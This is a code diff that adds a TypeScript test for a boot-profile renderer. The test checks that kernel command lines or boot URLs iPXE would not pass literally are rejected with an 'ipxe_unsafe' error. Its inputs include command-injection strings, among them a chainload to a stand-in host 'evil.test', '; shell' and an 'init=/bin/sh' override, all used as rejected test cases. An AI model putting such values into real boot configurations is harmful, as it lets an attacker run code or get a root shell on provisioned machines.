@@ -164,6 +164,14 @@ test('a kernel command line with a newline is rejected', async () => {
   assert.throws(() => renderBootSpec(p, sampleContext(p, { extra: 'a\ninit=/bin/sh' })), (err: unknown) => hasCode(err, 'template_error') && err.issues[0]!.code === 'cmdline_newline' && err.issues[0]!.path === 'profiles/p/profile.yaml:10:13');
 });
 
+test('a kernel command line or boot URL that iPXE would not pass literally is refused at deploy time (ipxe_unsafe)', async () => {
+  const p = await loadOne({ ...base, 'p/profile.yaml': goodYaml.replace('preseed.cfg"', 'preseed.cfg {{ profile.extra }}"').replace('variables:\n', 'variables:\n  extra:\n    description: x\n    default: ""\n') });
+  for (const extra of ['&& chain http://evil.test/x', 'a || shell', 'x ; shell', '#comment', 'root=${evil}', 'trailing\\']) {
+    assert.throws(() => renderBootSpec(p, sampleContext(p, { extra })), (err: unknown) => hasCode(err, 'template_error') && err.issues[0]!.code === 'ipxe_unsafe' && err.issues[0]!.path === 'profiles/p/profile.yaml:10:13', extra);
+  }
+  assert.throws(() => renderBootSpec(p, sampleContext(p, { mirror: 'http://m/${x}' })), (err: unknown) => hasCode(err, 'template_error') && err.issues[0]!.code === 'ipxe_unsafe');
+});
+
 test('a profile-local boot file becomes a controller URL; a missing one is an error', async () => {
   const yaml = goodYaml.replace('"{{ profile.mirror }}/linux"', 'boot/linux');
   const p = await loadOne({ ...base, 'p/profile.yaml': yaml, 'p/boot/linux': 'kernel' });
